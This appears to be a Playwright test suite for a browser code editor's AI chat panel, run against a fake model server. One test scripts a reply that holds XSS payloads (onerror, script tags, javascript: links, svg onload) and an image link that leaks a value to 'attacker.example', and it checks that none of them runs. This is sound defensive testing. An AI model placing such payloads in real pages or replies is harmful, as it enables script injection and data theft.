import type { FakeOpenAIServer } from '../fixtures/fake-openai-server.mjs';
import { CovePage } from './support/cove-page';
import { expect, test } from './support/fixtures';

/** Adds the test's fake provider with one chat model and closes Settings. */
async function connect(cove: CovePage, provider: FakeOpenAIServer, apiKey?: string) {
  provider.configure({ models: [{ id: 'chat-model', object: 'model', owned_by: 'fake' }] });
  await cove.openSettings();
  await cove.addProvider({
    name: 'Fake',
    baseURL: provider.baseURL,
    ...(apiKey ? { apiKey } : {}),
  });
  await cove.page.getByRole('button', { name: 'Close settings' }).click();
  await expect(cove.page.getByRole('combobox', { name: 'Model' })).toHaveValue(/\/chat-model$/);
}

const messageBox = (cove: CovePage) => cove.page.getByRole('combobox', { name: 'Message' });
const replies = (cove: CovePage) => cove.page.getByRole('article', { name: 'Assistant reply' });

async function ask(cove: CovePage, text: string) {
  await messageBox(cove).fill(text);
  await messageBox(cove).press('Enter');
}

test('chat with streaming, reasoning and the open file as context; it is there after a reload', async ({
  cove,
  provider,
}) => {
  test.setTimeout(120_000);
  await connect(cove, provider);
  await cove.item('main.py').click();
  await expect(cove.page.getByText('Python is ready')).toBeVisible({ timeout: 60_000 });
  provider.script({
    reasoning: 'The person asks about greet. It formats a string.',
    content:
      '## What `greet` does\n\nIt returns a greeting:\n\n```python\nprint(greet("Ada"))\n```\n\nThat is all.',
    delayMs: 20,
  });
  await ask(cove, 'Explain the function greet');
  await expect(cove.page.getByRole('article', { name: 'Your message' })).toHaveText(
    'Explain the function greet',
  );
  const reply = replies(cove).last();
  await expect(reply.getByRole('heading', { name: 'What greet does' })).toBeVisible();
  await expect(reply.getByText('That is all.')).toBeVisible();
  // How long it thought depends on the machine: "Thought for 0.2 s" or "… under 0.1 s".
  await expect(reply.getByText(/^Thought for (under )?\d/)).toBeVisible();
  await reply.getByText(/^Thought for/).click();
  await expect(reply.getByText('The person asks about greet.')).toBeVisible();
  await expect(reply.getByLabel('Token usage')).toContainText(/\d+ in · \d+ out tokens/);
  await expect(reply.getByRole('button', { name: 'Copy python code' })).toBeVisible();

  // The request carried the open file and the conversation, and no SDK headers.
  const request = provider.chatRequests()[0]!;
  const body = request.body as { messages: { role: string; content: string }[]; stream: boolean };
  expect(body.stream).toBe(true);
  expect(body.messages[0]!.role).toBe('system');
  // Python's ast found the function the question names: only it goes with the message.
  expect(body.messages[0]!.content).toContain('The open file is main.py');
  expect(body.messages[0]!.content).toContain('the function `greet` (lines 7–8)');
  expect(body.messages[0]!.content).toContain('def greet(name: str) -> str:');
  expect(body.messages[0]!.content).not.toContain('def fibonacci');
  expect(body.messages.at(-1)).toEqual({ role: 'user', content: 'Explain the function greet' });
  expect(Object.keys(request.headers).filter((h) => h.startsWith('x-stainless'))).toEqual([]);

  await cove.reload();
  await expect(replies(cove).last().getByText('That is all.')).toBeVisible();
  await expect(
    cove.page.getByRole('combobox', { name: 'Conversation' }).locator('option:checked'),
  ).toHaveText('Explain the function greet');
});

test('Enter sends, Shift+Enter makes a new line; a follow-up keeps the history', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  await messageBox(cove).click();
  await cove.page.keyboard.type('first line');
  await cove.page.keyboard.press('Shift+Enter');
  await cove.page.keyboard.type('second line');
  await expect(messageBox(cove)).toHaveValue('first line\nsecond line');
  await cove.page.keyboard.press('Enter');
  await expect(replies(cove)).toHaveCount(1);
  await expect(replies(cove).last()).toContainText('Echo: first line');
  await ask(cove, 'and again');
  await expect(replies(cove)).toHaveCount(2);
  // The reply's card shows before the server has the request: wait for the answer.
  await expect(replies(cove).last()).toContainText('Echo: and again');
  await expect.poll(() => provider.chatRequests().length).toBe(2);
  const body = provider.chatRequests()[1]!.body as {
    messages: { role: string; content: string }[];
  };
  expect(body.messages.slice(1).map((m) => m.role)).toEqual(['user', 'assistant', 'user']);
});

test('Stop ends the reply at once and keeps what arrived', async ({ cove, provider }) => {
  await connect(cove, provider);
  provider.script({ content: 'word '.repeat(400), chunkSize: 5, delayMs: 30 });
  await ask(cove, 'Talk a lot');
  const reply = replies(cove).last();
  await expect(reply).toContainText('word word');
  await cove.page.getByRole('button', { name: 'Stop' }).click();
  await expect(reply.getByText('Stopped. What arrived is kept.')).toBeVisible();
  const kept = (await reply.locator('.markdown').innerText()).length;
  expect(kept).toBeGreaterThan(5);
  expect(kept).toBeLessThan('word '.repeat(400).length);
  await expect(cove.page.getByRole('button', { name: 'Send', exact: true })).toBeVisible();
  await cove.reload();
  await expect(replies(cove).last().getByText('Stopped. What arrived is kept.')).toBeVisible();
});

test('scrolling up while a reply streams leaves the person there; back at the end, it follows again', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  // About 30 s of streaming: long enough to outlast the steps below on a slow machine.
  const lines = Array.from({ length: 800 }, (_, i) => `Line ${i + 1} of a long answer.`);
  provider.script({ content: lines.join('\n\n'), chunkSize: 12, delayMs: 15 });
  await ask(cove, 'Write a long answer');
  const reply = replies(cove).last();
  const messages = cove.page.getByRole('region', { name: 'Messages' });
  const scroller = cove.page.locator('.chat-scroll');
  // textContent: innerText leaves out blocks the browser skips rendering off screen.
  const textLength = () => reply.evaluate((el) => el.textContent?.length ?? 0);
  const distanceFromEnd = () =>
    scroller.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
  // Long enough to scroll, and followed to its end while it grows.
  await expect(reply).toContainText('Line 40 of');
  await expect.poll(distanceFromEnd).toBeLessThan(40);

  await messages.hover();
  await cove.page.mouse.wheel(0, -600);
  await expect.poll(distanceFromEnd).toBeGreaterThan(300);
  const left = await scroller.evaluate((el) => el.scrollTop);
  // More arrives; the view stays where the person put it.
  const grown = await textLength();
  await expect.poll(() => textLength()).toBeGreaterThan(grown + 200);
  expect(Math.abs((await scroller.evaluate((el) => el.scrollTop)) - left)).toBeLessThan(5);

  // Back at the end, the reply is followed again.
  await cove.page.mouse.wheel(0, 100_000);
  await expect.poll(distanceFromEnd).toBeLessThan(40);
  const before = await textLength();
  await expect.poll(() => textLength()).toBeGreaterThan(before + 200);
  await expect.poll(distanceFromEnd).toBeLessThan(40);
  await cove.page.getByRole('button', { name: 'Stop' }).click();
});

// Invariant 7: automatic retries only for retryable errors.
test('a rate limit is retried visibly and recovers', async ({ cove, provider }) => {
  await connect(cove, provider);
  provider.script(
    { status: 429, headers: { 'retry-after': '2' } },
    { content: 'Recovered after waiting.' },
  );
  await ask(cove, 'Hello');
  await expect(cove.page.getByRole('status').filter({ hasText: /Retrying in \d s/ })).toBeVisible();
  await expect(replies(cove).last()).toContainText('Recovered after waiting.', { timeout: 15_000 });
  await expect(cove.page.getByRole('status').filter({ hasText: 'Retrying in' })).toBeHidden();
  expect(provider.chatRequests()).toHaveLength(2);
});

// Invariant 6: every failure says its cause and the next step.
test('a refused key explains itself, is never shown, and Retry works once fixed', async ({
  cove,
  provider,
}) => {
  const wrongKey = 'sk-wrong-key-0000111122223333';
  await connect(cove, provider, wrongKey);
  // The provider starts refusing this key (revoked, say) after the models were listed.
  provider.configure({ apiKey: 'sk-right-key' });
  await ask(cove, 'Hello');
  const alert = replies(cove).last().getByRole('alert');
  await expect(alert).toContainText(/key/i);
  await expect(alert).toContainText(/Settings/);
  await expect(cove.page.locator('body')).not.toContainText(wrongKey);
  expect(provider.chatRequests()).toHaveLength(1);
  // The server now accepts it; Retry asks again and the reply replaces the error.
  provider.configure({ apiKey: null });
  await alert.getByRole('button', { name: 'Retry' }).click();
  await expect(replies(cove).last()).toContainText('Echo: Hello');
  await expect(replies(cove)).toHaveCount(1);
});

// Invariant 9: rendering untrusted text runs no script and loads nothing.
test('nothing in a reply runs script or loads anything until clicked', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  const external: string[] = [];
  cove.page.on('request', (request) => {
    if (request.url().includes('attacker.example')) external.push(request.url());
  });
  provider.script({
    content: [
      '<img src="https://attacker.example/pixel.png" onerror="window.__pwned=1">',
      '<script>window.__pwned=2</script>',
      '[click me](javascript:window.__pwned=3)',
      '![diagram](https://attacker.example/secret?k=abc)',
      '<svg onload="window.__pwned=4"><circle r="5"/></svg>',
      '![plain](http://insecure.example/chart.png)',
    ].join('\n\n'),
  });
  await ask(cove, 'Show me');
  const reply = replies(cove).last();
  const placeholder = reply
    .getByRole('button', { name: /Load image from attacker\.example/ })
    .first();
  await expect(placeholder).toBeVisible();
  await reply
    .getByText('click me')
    .click()
    .catch(() => undefined);
  expect(
    await cove.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
  ).toBeUndefined();
  expect(external).toEqual([]);
  // The person chooses to load it: now, and only now, the request goes out.
  const loaded = cove.page.waitForRequest(/attacker\.example/);
  await placeholder.click();
  await loaded;
  // That host is not there: the person is told, rather than the button vanishing.
  await expect(
    reply.getByRole('status').filter({ hasText: 'Image not loaded' }).first(),
  ).toContainText('attacker.example did not send an image');
  // Plain http images are refused by Cove's policy; it says so instead of doing nothing.
  await reply.getByRole('button', { name: /Load image from insecure\.example/ }).click();
  await expect(reply.getByText(/Cove loads images only over https/)).toBeVisible();
});

test('code block buttons: save as a file and insert into the open file', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  provider.script({ content: 'Here:\n\n```python\ndef square(x):\n    return x * x\n```\n' });
  await ask(cove, 'Write square');
  const reply = replies(cove).last();
  await reply.getByRole('button', { name: 'Save python code as a file' }).click();
  await expect(cove.dialog.getByRole('textbox')).toHaveValue('snippet.py');
  await cove.answer('square.py', 'Save');
  await expect(cove.item('square.py')).toBeVisible();
  await expect(cove.tab('square.py')).toHaveAttribute('aria-selected', 'true');
  await expect.poll(() => cove.editorText('square.py')).toBe('def square(x):\n    return x * x');

  await cove.item('main.py').click();
  await cove.editor('main.py').click();
  await cove.page.keyboard.press('ControlOrMeta+End');
  await reply.getByRole('button', { name: 'Insert python code into the open file' }).click();
  await expect
    .poll(() => cove.editorText('main.py'))
    .toContain('    print("The first ten Fibonacci numbers:", fibonacci(10))\ndef square(x):');
});

test('conversations: new, switch, rename and delete (deleting asks first)', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  await ask(cove, 'First topic');
  await expect(replies(cove)).toHaveCount(1);
  await cove.page.getByRole('button', { name: 'New conversation' }).click();
  await expect(replies(cove)).toHaveCount(0);
  await ask(cove, 'Second topic');
  await expect(replies(cove).last()).toContainText('Echo: Second topic');
  const sessions = cove.page.getByRole('combobox', { name: 'Conversation' });
  await sessions.selectOption({ label: 'First topic' });
  await expect(replies(cove).last()).toContainText('Echo: First topic');

  await cove.page.getByRole('button', { name: 'Rename conversation' }).click();
  await cove.answer('Renamed topic', 'Rename');
  await expect(sessions.locator('option:checked')).toHaveText('Renamed topic');

  await cove.page.getByRole('button', { name: 'Delete conversation' }).click();
  await cove.dialog.getByRole('button', { name: 'Delete conversation' }).click();
  await expect(sessions.locator('option', { hasText: 'Renamed topic' })).toHaveCount(0);
  await expect(sessions.locator('option', { hasText: 'Second topic' })).toHaveCount(1);
});

// Invariant 2: no reply is left streaming after a fault; what was shown is kept.
test('a reload in the middle of a reply keeps what was shown and marks it interrupted', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  provider.script({ content: 'slowly '.repeat(300), chunkSize: 7, delayMs: 40 });
  await ask(cove, 'Be slow');
  const reply = replies(cove).last();
  await expect(reply).toContainText('slowly slowly slowly slowly slowly');
  // Wait until a periodic write has put part of the reply in IndexedDB, then go away mid-stream.
  await expect
    .poll(() =>
      cove.page.evaluate(
        () =>
          new Promise<number>((resolve) => {
            const open = indexedDB.open('cove');
            open.onsuccess = () => {
              const all = open.result.transaction('nodes').objectStore('nodes').getAll();
              all.onsuccess = () => {
                const rows = all.result as { role: string; content?: unknown }[];
                const texts = rows
                  .filter((row) => row.role === 'assistant' && typeof row.content === 'string')
                  .map((row) => (row.content as string).length);
                open.result.close();
                resolve(Math.max(0, ...texts));
              };
            };
            open.onerror = () => resolve(0);
          }),
      ),
    )
    .toBeGreaterThan(35);
  const shown = (await reply.locator('.markdown').innerText()).trim().length;
  await cove.reload();
  const after = replies(cove).last();
  await expect(after.getByText('This reply was interrupted')).toBeVisible();
  const kept = (await after.locator('.markdown').innerText()).trim().length;
  // At most about a second of text is lost (40 ms per 7 characters ≈ 175 characters a second).
  expect(kept).toBeGreaterThan(shown - 400);
  expect(kept).toBeGreaterThan(0);

  // Continue: a new reply goes on from the kept text, which stays as it is.
  provider.script({ content: 'and that is the end.' });
  await after.getByRole('button', { name: 'Continue' }).click();
  await expect(replies(cove).last()).toContainText('and that is the end.');
  await expect(replies(cove).nth(-2).getByText('This reply was interrupted')).toBeVisible();
  const request = provider.chatRequests().at(-1)!.body as {
    messages: { role: string; content: string }[];
  };
  expect(request.messages.at(-2)).toMatchObject({ role: 'assistant' });
  expect(request.messages.at(-1)?.content).toMatch(/cut off\. Continue it from exactly where/);
  await cove.reload();
  await expect(replies(cove).last()).toContainText('and that is the end.');
});

// Invariant 12: one tab writes a session at a time; the others see it live.
test('a conversation answering in one tab shows as running in another', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  provider.script({ content: 'Short.' });
  await ask(cove, 'First');
  await expect(replies(cove).last()).toContainText('Short.');
  provider.script({ content: 'slowly '.repeat(200), chunkSize: 7, delayMs: 40 });
  await ask(cove, 'Be slow');
  await expect(replies(cove).last()).toContainText('slowly slowly');

  const other = await new CovePage(await cove.page.context().newPage()).open();
  const status = other.page.getByRole('status').filter({ hasText: 'Running in another tab' });
  await expect(status).toBeVisible();
  await expect(replies(other).last()).toContainText('slowly slowly');
  // When the first tab is done, the second shows the whole reply and the note goes away.
  await expect(cove.page.getByRole('button', { name: 'Stop' })).toBeHidden({ timeout: 60_000 });
  await expect(status).toBeHidden();
  await expect(replies(other).last()).toHaveText(/(slowly ){199}slowly/);
  await other.page.close();
});

test('a reply cut off by a network failure keeps its text and error, and goes back to the model with the next message', async ({
  cove,
  provider,
}) => {
  await connect(cove, provider);
  provider.script({
    content: 'Part one of the answer, then the line drops.',
    chunkSize: 8,
    stallAfterChunks: 4,
  });
  // The line drops once the first part is on screen: a cut before any output is retried
  // instead, and a cut right behind the text can lose it in the browser's network stack.
  await ask(cove, 'Explain it');
  const failed = replies(cove).last();
  await expect(failed.locator('.markdown')).toContainText('Part one');
  expect(provider.cutStalled()).toBe(1);
  await expect(failed.getByRole('alert')).toBeVisible();
  const kept = (await failed.locator('.markdown').innerText()).trim();
  expect(kept.length).toBeGreaterThan(0);
  expect('Part one of the answer, then the line drops.').toContain(kept);

  provider.script({ content: 'Understood, going on.' });
  await ask(cove, 'Go on');
  await expect(replies(cove).last()).toContainText('Understood, going on.');
  const request = provider.chatRequests().at(-1)!.body as {
    messages: { role: string; content: string }[];
  };
  const sentBack = request.messages.find((m) => m.role === 'assistant' && m.content.includes(kept));
  expect(sentBack?.content).toMatch(/\[This reply failed: .+\]/);
  // The failed reply is still shown as it was, with its error, after a reload.
  await cove.reload();
  await expect(replies(cove).nth(-2).getByRole('alert')).toBeVisible();
  await expect(replies(cove).nth(-2)).toContainText(kept);
});

test('without a provider the assistant says how to set one up', async ({ cove }) => {
  await expect(cove.page.getByText('Connect a model to start')).toBeVisible();
  await cove.page.getByRole('button', { name: 'Add a provider' }).click();
  await expect(cove.settings).toBeVisible();
});

test('Run on a Python code block runs it and shows the output under the block', async ({
  cove,
  provider,
}) => {
  test.setTimeout(120_000);
  await connect(cove, provider);
  provider.script({
    content:
      'Try this:\n\n```python\nimport sys\nprint(6 * 7)\nprint("careful", file=sys.stderr)\n```\n',
  });
  await ask(cove, 'Show me a computation');
  const reply = replies(cove).last();
  await reply.getByRole('button', { name: 'Run this Python code' }).click();
  const output = reply.getByRole('log', { name: 'Output of this code' });
  await expect(output).toContainText('42', { timeout: 90_000 });
  await expect(output).toContainText('careful');
  await expect(output.locator('.stderr')).toHaveText('careful\n');
  await expect(output).toContainText('Finished in');
  // The same run is in the output panel too.
  await expect(cove.page.getByRole('log', { name: 'Program output' })).toContainText('42');
});
